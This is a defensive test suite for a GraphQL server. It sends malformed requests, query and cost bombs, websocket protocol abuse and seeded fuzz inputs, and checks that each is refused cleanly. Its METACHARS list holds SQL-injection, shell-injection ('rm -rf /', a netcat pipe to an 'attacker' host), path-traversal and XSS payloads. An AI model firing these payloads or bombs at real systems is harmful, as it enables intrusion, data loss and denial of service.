/**
 * Hostile input, every case ending the same way: a clear error, the server still answers a
 * health query, and the database holds exactly what it held before (afterEach).
 */
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { startTestApp, type TestApp } from '../../helpers/app.ts';
import { expectServing, postRaw, rawPeer, snapshot } from './support.ts';
import { rng } from '../../../src/random.ts';

let app: TestApp;
let baseline: Record<string, string>;
beforeAll(async () => {
  // Rate limits off: this suite sends more bad requests and mutations than a minute's budget.
  app = await startTestApp({ RATE_LIMIT_MUTATIONS_PER_MINUTE: '0', RATE_LIMIT_AUTH_FAILURES_PER_MINUTE: '0' });
  baseline = await snapshot(app);
});
afterEach(async () => {
  await expectServing(app);
  expect(await snapshot(app)).toEqual(baseline);
});
afterAll(async () => app?.close());

type Body = { data?: unknown; errors?: { message: string; extensions?: Record<string, unknown> }[] };

/** A refused request: 4xx, or 200 with errors and no data; always a message, never an internal error. */
function expectClearError(status: number, text: string, pattern?: RegExp): void {
  expect(status).toBeLessThan(500);
  const body = JSON.parse(text) as Body | Body[];
  const first = Array.isArray(body) ? body[0] : body;
  expect(first?.errors?.length).toBeGreaterThan(0);
  expect(first?.errors?.[0]?.message).toEqual(expect.any(String));
  expect(first?.errors?.[0]?.extensions?.code).not.toBe('INTERNAL_SERVER_ERROR');
  if (pattern) expect(first?.errors?.map((e) => e.message).join('\n')).toMatch(pattern);
}

describe('malformed HTTP requests', () => {
  test.each([
    ['truncated JSON', '{"query": '],
    ['not JSON', 'query { health { status } }'],
    ['empty body', ''],
    ['null', 'null'],
    ['a number', '42'],
    ['a string', '"{ health { status } }"'],
    ['query not a string', '{"query": 42}'],
    ['variables not an object', '{"query": "{ health { status } }", "variables": "nope"}'],
    ['operationName an object', '{"query": "{ health { status } }", "operationName": {"x": 1}}'],
    ['a GraphQL syntax error', '{"query": "{ health { status "}'],
    ['an unknown operation name', '{"query": "query A { health { status } }", "operationName": "B"}'],
    ['binary garbage', '\u0000\u0001\u0002\uffff'],
    ['prototype pollution attempt', '{"__proto__": {"query": "{ health { status } }"}, "constructor": {"prototype": {"polluted": true}}}'],
    ['a batch of garbage', '[1, "x", null]'],
  ])('%s', async (_name, body) => {
    const res = await postRaw(app, body);
    expectClearError(res.status, res.text);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  test('an empty batch answers an empty list', async () => {
    const res = await postRaw(app, '[]');
    expect([res.status, res.text]).toEqual([200, '[]']);
  });

  test('a mutation over GET is refused', async () => {
    const res = await fetch(`${app.server.url}/graphql?query=${encodeURIComponent('mutation { createApiToken(input: { name: "x", role: ADMIN }) { __typename } }')}`, {
      headers: { authorization: `Bearer ${app.adminToken}`, accept: 'application/json' },
    });
    expect(res.status).toBe(405);
  });
});

describe('query bombs', () => {
  const nest = (levels: number) => '{ __type(name: "Query") { ' + 'fields { type { '.repeat(levels) + 'name' + ' } }'.repeat(levels) + ' } }';

  test('depth bomb', async () => {
    const res = await postRaw(app, JSON.stringify({ query: nest(6) }));
    expectClearError(res.status, res.text, /depth limit of 10 exceeded/i);
    expect((await postRaw(app, JSON.stringify({ query: nest(4) }))).status).toBe(200);
  });

  test('parser stack bomb (100,000 nested selections) stops at the token limit', async () => {
    const res = await postRaw(app, JSON.stringify({ query: '{ a'.repeat(100_000) + ' }'.repeat(100_000) }));
    expectClearError(res.status, res.text, /token limit/i);
  });

  test('alias bomb', async () => {
    // 30 aliases stay under the token limit, which would otherwise answer first.
    const query = `{ ${Array.from({ length: 30 }, (_, i) => `a${i}: health { status }`).join(' ')} }`;
    const res = await postRaw(app, JSON.stringify({ query }));
    expectClearError(res.status, res.text, /aliases limit/i);
  });

  test('directive bomb', async () => {
    const res = await postRaw(app, JSON.stringify({ query: `{ __typename ${'@include(if: true) '.repeat(100)}}` }));
    expectClearError(res.status, res.text, /directives limit/i);
  });

  // A page size in a variable, or no page size at all, costs what it asks for: graphql-armor's
  // rule (before 2026-12-05) priced both as one device, so a million status changes passed.
  const STATUS_BOMB = 'query ($n: Int, $l: Int) { devices(first: $n) { edges { node { statusChanges(limit: $l) { at previous current reason } } } } }';

  test('cost bomb: list sizes in variables are priced', async () => {
    const res = await postRaw(app, JSON.stringify({ query: STATUS_BOMB, variables: { n: 1000, l: 100 } }));
    expectClearError(res.status, res.text, /cost limit of 50000 exceeded: this operation may return 403001 values/i);
    // The same operation at a sane size runs.
    const small = await app.gql(STATUS_BOMB, { n: 10, l: 5 });
    expect([small.status, small.body.errors]).toEqual([200, undefined]);
  });

  test('cost bomb: a list without first costs its default page', async () => {
    const query = '{ devices { edges { node { statusChanges(limit: 100) { at previous current reason __typename } } } } }';
    const res = await postRaw(app, JSON.stringify({ query }));
    expectClearError(res.status, res.text, /cost limit of 50000 exceeded: this operation may return 50301 values/i);
  });

  test('fragment bomb ("billion laughs") is priced, not expanded', async () => {
    const fragments = ['fragment F0 on Query { __typename }'];
    for (let i = 1; i <= 9; i++) fragments.push(`fragment F${i} on Query { ${`...F${i - 1} `.repeat(10)}}`);
    const started = Date.now();
    const res = await postRaw(app, JSON.stringify({ query: `{ ...F9 } ${fragments.join(' ')}` }));
    // Whichever limit prices it first (spreads nest, so depth may): never 10^9 selections.
    expectClearError(res.status, res.text, /cost limit|depth limit/i);
    expect(Date.now() - started).toBeLessThan(2000);
  });

  test('a batch of bombs is refused as a whole', async () => {
    const res = await postRaw(app, JSON.stringify(Array.from({ length: 11 }, () => ({ query: nest(8) }))));
    expect(res.status).toBeGreaterThanOrEqual(400);
    expect(res.status).toBeLessThan(500);
  });
});

describe('huge variables', () => {
  test('a 900 kB unused variable is harmless; 2 MB is 413', async () => {
    const ok = await postRaw(app, JSON.stringify({ query: 'query ($x: String) { health { status } }', variables: { x: 'x'.repeat(900_000) } }));
    expect(ok.status).toBe(200);
    const big = await postRaw(app, JSON.stringify({ query: '{ health { status } }', variables: { x: 'x'.repeat(2_000_000) } }));
    expect(big.status).toBe(413);
  });

  test('100,000-deep nested arrays for a String variable', async () => {
    const res = await postRaw(app, `{"query": "query ($x: String) { health { status } }", "variables": {"x": ${'['.repeat(100_000)}${']'.repeat(100_000)}}}`);
    expectClearError(res.status, res.text);
  });

  test('50,000 variables and out-of-range numbers', async () => {
    const many = Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [`v${i}`, i]));
    const res = await postRaw(app, JSON.stringify({ query: '{ health { status } }', variables: many }));
    expect(res.status).toBeLessThan(500);
    const huge = await postRaw(app, '{"query": "query ($b: Boolean) { apiTokens(includeRevoked: $b) { id } }", "variables": {"b": 1e400}}');
    expectClearError(huge.status, huge.text);
  });
});

describe('graphql-ws protocol abuse (raw frames)', () => {
  const init = { type: 'connection_init', payload: { authorization: '' } };
  const authed = () => ({ ...init, payload: { authorization: `Bearer ${app.adminToken}` } });

  test.each([
    ['a garbage text frame', ['this is not json'], 4400],
    ['a JSON array', ['[1,2,3]'], 4400],
    ['binary garbage', [Buffer.from([0xff, 0x00, 0xfe, 0x01])], 4400],
    ['an unknown message type', [{ type: 'launch_missiles' }], 4400],
    ['subscribe before connection_init', [{ id: '1', type: 'subscribe', payload: { query: '{ health { status } }' } }], 4401],
    ['connection_init without a token', [init], 4403],
    ['connection_init with a non-string token', [{ type: 'connection_init', payload: { authorization: { $ne: null } } }], 4403],
    ['connection_init with a 900 kB token', [{ type: 'connection_init', payload: { authorization: `Bearer ${'x'.repeat(900_000)}` } }], 4403],
  ])('%s closes the socket (code %#)', async (_name, frames, code) => {
    const peer = rawPeer(app);
    await peer.opened;
    for (const f of frames) peer.send(f);
    expect((await peer.closed).code).toBe(code);
  });

  test('a 2 MB frame closes the socket with 1009 (message too big)', async () => {
    const peer = rawPeer(app);
    await peer.opened;
    peer.send('x'.repeat(2 * 1024 * 1024));
    expect((await peer.closed).code).toBe(1009);
  });

  test('a duplicate connection_init closes with 4429', async () => {
    const peer = rawPeer(app);
    await peer.opened;
    peer.send(authed());
    await peer.next('connection_ack');
    peer.send(authed());
    expect((await peer.closed).code).toBe(4429);
  });

  test('subscribe without an id, with a non-string query, and a duplicate id', async () => {
    const noId = rawPeer(app);
    await noId.opened;
    noId.send(authed());
    await noId.next('connection_ack');
    noId.send({ type: 'subscribe', payload: { query: '{ health { status } }' } });
    expect((await noId.closed).code).toBe(4400);

    const badQuery = rawPeer(app);
    await badQuery.opened;
    badQuery.send(authed());
    await badQuery.next('connection_ack');
    badQuery.send({ id: 'q', type: 'subscribe', payload: { query: { kind: 'Document' } } });
    expect((await badQuery.closed).code).toBe(4400);

    const dup = rawPeer(app);
    await dup.opened;
    dup.send(authed());
    await dup.next('connection_ack');
    dup.send({ id: 'same', type: 'subscribe', payload: { query: 'subscription { metricCollected { cpuPercent } }' } });
    dup.send({ id: 'same', type: 'subscribe', payload: { query: 'subscription { metricCollected { cpuPercent } }' } });
    expect((await dup.closed).code).toBe(4409);
  });

  test('bombs over graphql-ws get the same limits', async () => {
    const peer = rawPeer(app);
    await peer.opened;
    peer.send(authed());
    await peer.next('connection_ack');
    // (aliases of __typename are free in graphql-armor's count)
    peer.send({ id: 'a', type: 'subscribe', payload: { query: `{ ${Array.from({ length: 30 }, (_, i) => `a${i}: health { status }`).join(' ')} }` } });
    const error = await peer.next('error');
    expect(JSON.stringify(error.payload)).toMatch(/aliases limit/i);
    peer.ws.close();
  });

  test('a socket that never sends connection_init is closed (4408)', async () => {
    const peer = rawPeer(app);
    await peer.opened;
    expect((await peer.closed).code).toBe(4408);
  });
});

const METACHARS = [
  "'; DROP TABLE api_tokens; --",
  "' OR '1'='1",
  '"; DELETE FROM devices WHERE ""="',
  'x\\\'; SELECT pg_sleep(10); --',
  '$(touch /tmp/infrapulse-pwned)',
  '`touch /tmp/infrapulse-pwned`',
  'a; rm -rf / #',
  'a | nc attacker 1234 && echo',
  '../../../../etc/passwd',
  '%s%s%s%n',
  '{{7*7}}${7*7}',
  '<script>alert(1)</script>',
  'ünïcødé 🔥 ‮RTL',
];

describe('SQL and shell metacharacters', () => {
  test('token names are stored and returned verbatim, never interpreted', async () => {
    const ids: string[] = [];
    try {
      for (const name of METACHARS) {
        const res = await app.gql<{ createApiToken: { apiToken: { id: string; name: string } } }>(
          'mutation ($n: String!) { createApiToken(input: { name: $n, role: VIEWER }) { ... on CreatedApiToken { apiToken { id name } } } }',
          { n: name },
        );
        expect(res.body.errors).toBeUndefined();
        expect(res.body.data?.createApiToken.apiToken.name).toBe(name);
        ids.push(res.body.data!.createApiToken.apiToken.id);
      }
      const listed = await app.gql<{ apiTokens: { id: string; name: string }[] }>('{ apiTokens { id name } }');
      for (const [i, id] of ids.entries()) expect(listed.body.data?.apiTokens.find((t) => t.id === id)?.name).toBe(METACHARS[i]);
      expect((await app.db.pool.query('SELECT 1 FROM api_tokens LIMIT 1')).rowCount).toBe(1); // the table is still there
    } finally {
      await app.db.prisma.apiToken.deleteMany({ where: { id: { in: ids } } });
    }
  });

  test.each(METACHARS)('as an id: %s', async (id) => {
    const res = await app.gql<{ revokeApiToken: { __typename: string } }>('mutation ($id: ID!) { revokeApiToken(id: $id) { __typename } }', { id });
    expect(res.body.data?.revokeApiToken.__typename).toBe('NotFoundError');
  });

  test('NUL and control characters in a name are a ValidationError', async () => {
    for (const n of ['a\u0000b', 'line\nbreak', '\u001b[31mred']) {
      const res = await app.gql<{ createApiToken: { __typename: string } }>('mutation ($n: String!) { createApiToken(input: { name: $n, role: VIEWER }) { __typename } }', { n });
      expect(res.body.data?.createApiToken.__typename).toBe('ValidationError');
    }
  });

  test('1 MB names: a ValidationError under the body cap, 413 over it', async () => {
    const under = await app.gql<{ createApiToken: { __typename: string; issues: { message: string }[] } }>(
      'mutation ($n: String!) { createApiToken(input: { name: $n, role: VIEWER }) { __typename ... on ValidationError { issues { message } } } }',
      { n: 'n'.repeat(1_000_000) },
    );
    expect(under.body.data?.createApiToken).toEqual({ __typename: 'ValidationError', issues: [{ message: 'must be 1 to 100 characters' }] });
    const over = await postRaw(app, JSON.stringify({ query: 'mutation ($n: String!) { createApiToken(input: { name: $n, role: VIEWER }) { __typename } }', variables: { n: 'n'.repeat(1_048_576) } }));
    expect(over.status).toBe(413);
  });
});


const SEED = 0x1f2e3d4c;
const ALPHABET = ['a', 'Z', '0', ' ', "'", '"', '\\', ';', '-', '$', '`', '(', ')', '|', '&', '\n', '\t', '\u0000', '\u007f', 'é', '🔥', '\u202e', '%', '{', '}', '<', '>', '/'];

function fuzzer(seed: number) {
  const r = rng(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
  const str = (max: number) => Array.from({ length: Math.floor(r() * max) }, () => pick(ALPHABET)).join('');
  /** Printable metacharacters only: names that may well be valid. */
  const safe = (max: number) => Array.from({ length: Math.floor(r() * max) }, () => pick(ALPHABET.filter((c) => !/[\u0000-\u001f\u007f]/.test(c)))).join('');
  const anyValue = (): unknown =>
    pick([() => str(40), () => Math.floor(r() * 2 ** 40) - 2 ** 39, () => r() * 1e6, () => r() < 0.5, () => null, () => [str(5), 1], () => ({ k: str(5) }), () => 1e308, () => '', () => 'x'.repeat(5000)])();
  return { r, pick, str, safe, anyValue };
}

describe('fuzzing (seeded)', () => {
  test(`createApiToken: 200 random inputs (seed ${SEED.toString(16)}): only valid ones write, none is an internal error`, async () => {
    const f = fuzzer(SEED);
    const created: string[] = [];
    try {
      for (let i = 0; i < 200; i++) {
        const name = f.r() < 0.4 ? f.str(130) : f.r() < 0.6 ? f.safe(110) : f.anyValue();
        const role = f.pick(['VIEWER', 'OPERATOR', 'ADMIN', 'ROOT', 'admin', '', null, 1]);
        const expiresAt = f.pick([undefined, null, new Date(Date.now() + 86_400_000).toISOString(), '2001-01-01T00:00:00Z', 'tomorrow', 0, '9999-99-99']);
        const res = await app.gql<{ createApiToken: { __typename: string; apiToken?: { id: string; name: string } } }>(
          'mutation ($input: CreateApiTokenInput!) { createApiToken(input: $input) { __typename ... on CreatedApiToken { apiToken { id name } } } }',
          { input: { name, role, expiresAt } },
        );
        const context = JSON.stringify({ i, name: String(name).slice(0, 60), role, expiresAt });
        expect(res.status, context).toBeLessThan(500);
        expect(res.body.errors?.map((e) => e.extensions?.code) ?? [], context).not.toContain('INTERNAL_SERVER_ERROR');
        const trimmed = typeof name === 'string' ? name.trim() : '';
        const valid =
          typeof name === 'string' && trimmed.length >= 1 && trimmed.length <= 100 && !/[\u0000-\u001f\u007f-\u009f]/.test(trimmed) &&
          ['VIEWER', 'OPERATOR', 'ADMIN'].includes(String(role)) && (expiresAt === undefined || expiresAt === null || (typeof expiresAt === 'string' && expiresAt.startsWith('20') && Date.parse(expiresAt) > Date.now()));
        expect(res.body.data?.createApiToken.__typename === 'CreatedApiToken', context).toBe(valid);
        if (res.body.data?.createApiToken.apiToken) {
          expect(res.body.data.createApiToken.apiToken.name).toBe(trimmed);
          created.push(res.body.data.createApiToken.apiToken.id);
        }
      }
      expect(created.length).toBeGreaterThan(3); // the oracle was exercised on both sides
    } finally {
      await app.db.prisma.apiToken.deleteMany({ where: { id: { in: created } } });
    }
  });
});

describe('device input', () => {
  const CREATE = 'mutation ($input: CreateDeviceInput!) { createDevice(input: $input) { __typename ... on Device { id name hostname username tags } } }';
  const valid = { name: 'fuzz-device', hostname: 'host.example', port: 22, username: 'monitor', password: 'pw-for-tests', transport: 'SSH' };

  afterEach(async () => {
    await app.db.pool.query('DELETE FROM devices');
    await app.db.pool.query('DELETE FROM credentials');
  });

  test.each(['name', 'hostname', 'username', 'tags', 'hostKeyFingerprint'])('metacharacters in %s: refused or stored verbatim', async (field) => {
    for (const [i, value] of METACHARS.entries()) {
      const input = { ...valid, name: `dev-${i}`, [field]: field === 'tags' ? [value] : value };
      const res = await app.gql<{ createDevice: { __typename: string; name?: string; hostname?: string; username?: string; tags?: string[] } }>(CREATE, { input });
      expect(res.status).toBeLessThan(500);
      expect(res.body.errors?.map((e) => e.extensions?.code) ?? []).not.toContain('INTERNAL_SERVER_ERROR');
      const out = res.body.data?.createDevice;
      expect(['Device', 'ValidationError', 'ConflictError']).toContain(out?.__typename);
      if (out?.__typename === 'Device' && field !== 'hostKeyFingerprint') {
        expect(field === 'tags' ? out.tags : out[field as 'name' | 'hostname' | 'username']).toEqual(field === 'tags' ? [value] : value);
      }
    }
  });

  test('a 1 MB device name is a ValidationError', async () => {
    const res = await app.gql<{ createDevice: { __typename: string } }>(CREATE, { input: { ...valid, name: 'd'.repeat(1_000_000) } });
    expect(res.body.data?.createDevice.__typename).toBe('ValidationError');
  });

  test(`150 random device inputs (seed ${(SEED + 1).toString(16)}): never an internal error`, async () => {
    const f = fuzzer(SEED + 1);
    const fields = ['name', 'hostname', 'port', 'username', 'transport', 'privateKey', 'passphrase', 'password', 'credentialId', 'tags', 'monitoringEnabled', 'hostKeyFingerprint', 'sudoSmartctl', 'intervals'];
    for (let i = 0; i < 150; i++) {
      const input: Record<string, unknown> = { ...valid, name: `fuzz-${i}` };
      for (const k of fields) if (f.r() < 0.3) input[k] = k === 'intervals' ? { system: f.anyValue(), drives: f.anyValue() } : f.anyValue();
      const res = await app.gql(CREATE, { input });
      const context = JSON.stringify({ i, input }).slice(0, 300);
      expect(res.status, context).toBeLessThan(500);
      expect(res.body.errors?.map((e) => e.extensions?.code) ?? [], context).not.toContain('INTERNAL_SERVER_ERROR');
    }
  });
});
